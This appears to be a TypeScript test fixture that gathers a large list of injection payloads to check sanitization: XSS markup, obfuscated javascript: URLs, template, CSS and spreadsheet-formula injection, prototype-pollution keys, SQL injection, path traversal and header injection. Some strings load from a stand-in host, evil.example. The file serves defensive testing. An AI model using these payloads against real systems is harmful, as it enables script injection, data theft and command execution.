// Texts that would do something if any of them were ever taken for markup, an address, a template or a key. Whatever runs
// calls `ran()`, which the tests count.

const CODE = ['ran()', 'ran`1`', 'top.ran()', "window['ran']()", 'eval("ran()")'];

const EVENTS = [
  ...['onclick', 'onload', 'onerror', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart'],
  ...['onbegin', 'ontoggle', 'oncontentvisibilityautostatechange'],
];

const ELEMENTS = [
  '<script>ran()</script>',
  '<SCRIPT SRC=data:,ran()></SCRIPT>',
  '<script type=module>ran()</script>',
  '<script/x>ran()</script/x>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</style><script>ran()</script>',
  '</script><script>ran()</script>',
  '--><script>ran()</script><!--',
  ']]><script>ran()</script>',
  '"><script>ran()</script>',
  "'><script>ran()</script>",
  '`><script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<img/src=x/onerror=ran()>',
  '<img src=x:x onerror\n=\nran()>',
  '<IMG """><SCRIPT>ran()</SCRIPT>">',
  '<img src="x` `<script>ran()</script>"` `>',
  '<image href=x onerror=ran()>',
  '<video src=x onerror=ran()></video>',
  '<video><source onerror=ran()></video>',
  '<audio src=x onerror=ran()>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()>',
  '<textarea autofocus onfocus=ran()>',
  '<button popovertarget=x autofocus onfocus=ran()>x</button>',
  '<details open ontoggle=ran()><summary>x</summary></details>',
  '<dialog open onclose=ran()><form method=dialog><button autofocus>x</button></form></dialog>',
  '<marquee onstart=ran()>x</marquee>',
  '<body onload=ran()>',
  '<iframe src=javascript:parent.ran()></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<embed src=javascript:ran()>',
  '<object data=javascript:ran()></object>',
  '<form action=javascript:ran()><button autofocus>x</button></form>',
  '<isindex formaction=javascript:ran() type=submit>',
  '<base href=javascript:ran()//>',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<link rel=stylesheet href=data:,*%7bx:expression(ran())%7d>',
  '<link rel=modulepreload href=data:text/javascript,ran()>',
  '<style>@import "javascript:ran()";</style>',
  '<style>*{background:url(javascript:ran())}</style>',
  '<template shadowrootmode=open><script>ran()</script></template>',
  '<template><script>ran()</script></template>',
  '<slot name=x onslotchange=ran()></slot>',
  '<maturity-flower src=javascript:ran()></maturity-flower>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<table background=javascript:ran()>',
  '<xss style="animation-name:x" onanimationstart=ran()></xss>',
  '<a href=javascript:ran()>x</a>',
  '<a href="java&Tab;script:ran()">x</a>',
  '<a href="&#106;avascript:ran()">x</a>',
  '<area href=javascript:ran()>',
  '<?xml-stylesheet href="javascript:ran()"?>',
  '<!DOCTYPE x [<!ENTITY x SYSTEM "javascript:ran()">]><x>&x;</x>',
  '<![CDATA[<script>ran()</script>]]>',
  '<!--<img src="--><img src=x onerror=ran()//">',
];

const FOREIGN = [
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><script href=data:,ran() /></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s></svg>',
  '<svg><set onbegin=ran() attributeName=x></svg>',
  '<svg><a xlink:href=javascript:ran()><text y=9>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:ran() /><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x"/></svg>',
  '<svg><image href=x onerror=ran()></svg>',
  '<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=ran()></style></svg>',
  '<svg><title><img src=x onerror=ran()></title></svg>',
  '<svg><desc><script>ran()</script></desc></svg>',
  '</text></svg><img src=x onerror=ran()>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>',
  '<math href=javascript:ran()>x</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>',
  '<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
];

const ENDINGS = ['"', "'", '`', '>', '">', "'>", '</', ' '];
const BREAKOUTS = ENDINGS.flatMap((ending) =>
  EVENTS.slice(0, 5).map((event) => `x${ending} ${event}=ran() autofocus tabindex=1 x=${ending}`),
);
const HANDLERS = EVENTS.flatMap((event) =>
  ['p', 'svg', 'input autofocus'].map((tag) => `<${tag} ${event}="ran()">`),
);

const SCHEMES = ['javascript', 'JaVaScRiPt', 'vbscript', 'livescript'];
const DISGUISES: readonly ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:ran()`,
  (scheme) => ` \t${scheme}:ran()`,
  (scheme) => `\u0000${scheme}:ran()`,
  (scheme) => `\u0001${scheme}:ran()`,
  (scheme) => `\u001F${scheme}:ran()`,
  (scheme) => `${scheme.slice(0, 4)}\t${scheme.slice(4)}:ran()`,
  (scheme) => `${scheme.slice(0, 4)}\n${scheme.slice(4)}:ran()`,
  (scheme) => `${scheme.slice(0, 4)}\r\n${scheme.slice(4)}:ran()`,
  (scheme) => `${scheme}\t:ran()`,
  (scheme) => `${scheme}:\nran()`,
  (scheme) => `${scheme}&colon;ran()`,
  (scheme) => `${scheme}&#58;ran()`,
  (scheme) => `&#x6A;${scheme.slice(1)}:ran()`,
  (scheme) => `\\u006a${scheme.slice(1)}:ran()`,
  (scheme) => `%6A${scheme.slice(1)}:ran()`,
  (scheme) => `${scheme}://example.org/%0Aran()`,
  (scheme) => `${scheme}:/*--></title></style></textarea></script><svg/onload='ran()'>*/ran()`,
  (scheme) => `view-source:${scheme}:ran()`,
  (scheme) => `\u200B${scheme}:ran()`,
  (scheme) => `\uFEFF${scheme}:ran()`,
];
const ADDRESSES = [
  ...SCHEMES.flatMap((scheme) => DISGUISES.map((disguise) => disguise(scheme))),
  'data:text/html,<script>parent.ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
  'DATA:text/javascript,ran()',
  'blob:https://example.org/00000000-0000-0000-0000-000000000000',
  'file:///etc/passwd',
  'about:srcdoc',
  'filesystem:http://example.org/temporary/x',
  'ms-settings:',
  'intent://x#Intent;scheme=javascript;end',
  '//example.org\\@evil.example',
  'https:javascript:ran()',
  'https://example.org/"onmouseover="ran()',
];

const TEMPLATES = [
  '${ran()}',
  '#{ran()}',
  '{{ran()}}',
  '{{{ran()}}}',
  '{{constructor.constructor("ran()")()}}',
  "{{$on.constructor('ran()')()}}",
  '[[ran()]]',
  '<%= ran() %>',
  '<%- ran() %>',
  '<?= ran() ?>',
  '@{ran()}',
  '{% ran() %}',
  '*{ran()}',
  '{ran()}',
  '${{ran()}}',
  '<!--?lit$0123456789$-->',
  '{{__proto__.x=1}}',
  '<!--lit-part-->${ran()}<!--/lit-part-->',
  '%s%n%x',
  '$&$1$`',
];

const STYLES = [
  'red;background:url(//evil.example/x)',
  'expression(ran())',
  'url(javascript:ran())',
  'url("data:image/svg+xml,<svg onload=ran()>")',
  '}*{display:none}',
  '</style><img src=x onerror=ran()>',
  "';behavior:url(#x)",
  '#000"onload="ran()',
  'var(--x,url(//evil.example/x))',
  '\\3c script\\3e ran()',
  '@import url(//evil.example/x.css);',
  'image-set("javascript:ran()" 1x)',
];

const LETTERS = [
  '\u202Eran()<script>\u202C',
  '\u2066<script>ran()</script>\u2069',
  '\uFF1Cscript\uFF1Eran()\uFF1C/script\uFF1E',
  '\u02BA\u02C3<img src=x onerror=ran()>',
  '<\u0131mg src=x onerror=ran()>',
  '<\u017Fcript>ran()</\u017Fcript>',
  '\u3008script\u3009ran()\u3008/script\u3009',
  '%3Cscript%3Eran()%3C/script%3E',
  '%253Cscript%253Eran()%253C/script%253E',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&amp;lt;script&amp;gt;ran()',
  '&#60;script&#62;ran()&#60;/script&#62;',
  '&#x3c;img src=x onerror=ran()&#x3e;',
  '&#0000060script&#0000062ran()',
  '\\u003cscript\\u003eran()',
  '\\x3cscript\\x3eran()',
  '+ADw-script+AD4-ran()+ADw-/script+AD4-',
  '<\u0000script>ran()</script>',
  '<scr\u0000ipt>ran()</scr\u0000ipt>',
  '<\uFEFFscript>ran()</script>',
  '<img src=x onerror\u000B=ran()>',
  '<img src=x onerror\u000C=ran()>',
  '<img\u00A0src=x\u00A0onerror=ran()>',
  '\uD83D\uDE00<script>ran()</script>',
  'A\u0301\u0300\u0302\u0303<script>ran()</script>',
  '\u2028ran()\u2029',
  '\u200B<script>ran()</script>\u200D',
];

const KEYS = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then', 'toJSON'],
  ...['__defineGetter__', '__proto__.polluted', 'constructor.prototype.polluted', '__proto__[polluted]'],
  ...['innerHTML', 'nodeType', 'length', 'undefined', 'null', 'NaN', '-0', '1e400', '_$litType$', 'strings'],
];

const CELLS = [
  "=cmd|' /C calc'!A0",
  '+1+ran()',
  '-1+ran()',
  '@SUM(ran())',
  '\t=ran()',
  '=HYPERLINK("javascript:ran()")',
  '=IMPORTXML("//evil.example")',
  '\uFF1Dran()',
];

const SQL = [
  "' OR 1=1--",
  '"; DROP TABLE kommun;--',
  '../../etc/passwd',
  '..\\..\\x',
  '\u001B[31mran()',
  'x\r\nSet-Cookie: a=b',
];

/** Every one once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...CODE.flatMap((code) => [`<script>${code}</script>`, `<img src=x onerror='${code}'>`, `");${code}//`]),
    ...[...ELEMENTS, ...FOREIGN, ...BREAKOUTS, ...HANDLERS, ...ADDRESSES, ...TEMPLATES, ...STYLES],
    ...[...LETTERS, ...KEYS, ...CELLS, ...SQL],
  ]),
];
